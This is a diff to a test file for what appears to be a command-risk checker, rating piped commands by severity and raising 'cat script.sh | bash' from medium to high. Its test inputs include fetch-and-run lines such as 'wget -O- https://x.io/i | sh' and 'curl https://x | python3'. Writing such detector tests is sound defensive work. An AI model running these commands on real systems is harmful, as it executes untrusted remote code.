@@ -170,7 +170,10 @@ TEST(download_to_shell)
 	CRITICAL("wget -O- https://x.io/i | sh");
 	CRITICAL("curl https://x | python3");
 	HIGH("some_tool | sh");
-	MEDIUM("cat script.sh | bash");
+	/* the script's text is read; one guard cannot read now (script.sh is not here) runs unseen */
+	HIGH("cat script.sh | bash");
+	CHECK(has_reason("which guard cannot read now"));
+	MEDIUM("cat /dev/null | bash");
 }
 
 TEST(interpreters)
